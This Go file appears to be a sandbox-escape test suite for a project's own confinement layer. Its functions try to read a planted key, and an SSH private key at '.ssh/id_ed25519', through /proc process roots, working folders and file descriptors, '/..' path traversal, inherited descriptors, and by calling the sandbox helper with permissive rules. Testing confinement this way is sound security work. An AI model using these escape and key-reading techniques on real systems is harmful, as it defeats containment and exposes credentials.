//go:build linux

package attack

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"

	"github.com/agent-discover/agent-discover/backend/trust/confinement"
)

// throughProcesses reads the key through the roots, working folders and open files of the processes that the server sees.
func throughProcesses(p plants) error {
	links, _ := filepath.Glob("/proc/[0-9]*/root") // the patterns are valid
	for _, more := range []string{"cwd", "fd/*"} {
		found, _ := filepath.Glob("/proc/[0-9]*/" + more)
		links = append(links, found...)
	}
	up := strings.Repeat("/..", 20)
	for _, link := range append([]string{"/proc/self/root"}, links...) {
		for _, path := range []string{link + p.key(), link + up + p.key(), link + "/.ssh/id_ed25519"} {
			if holds(os.ReadFile(path)) == nil {
				return nil
			}
		}
	}
	return errors.New("no process has it")
}

// inherited reads the key from open files that the server has inherited.
func inherited(plants) error {
	files, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		return err
	}
	for _, file := range files {
		text := make([]byte, 100)
		at, _ := strconv.Atoi(file.Name()) // the names are numbers
		if n, err := unix.Pread(at, text, 0); err == nil && holds(text[:n], nil) == nil {
			return nil
		}
	}
	return errors.New("no open file has it")
}

// byHelper starts the helper of the sandbox with rules that forbid nothing, to read the key.
func byHelper(p plants) error {
	err := errors.New("there is no helper")
	for _, helper := range []string{"/dev/agent-discover-helper", p.Helper} {
		for version := 1; exists(helper) && version < 20; version++ {
			cmd := exec.Command(helper, confinement.HelperCommand)
			rules := fmt.Sprintf(`{"version":%d,"path":"/bin/cat","args":["cat",%q]}`, version, p.key())
			input, output, failed := os.Pipe()
			if failed != nil {
				return failed
			}
			_, _ = output.WriteString(rules) // fits into the pipe
			_ = output.Close()
			cmd.ExtraFiles = []*os.File{input}
			text, failed := cmd.Output()
			_ = input.Close()
			if err = holds(text, failed); err == nil {
				return nil
			}
		}
	}
	return err
}
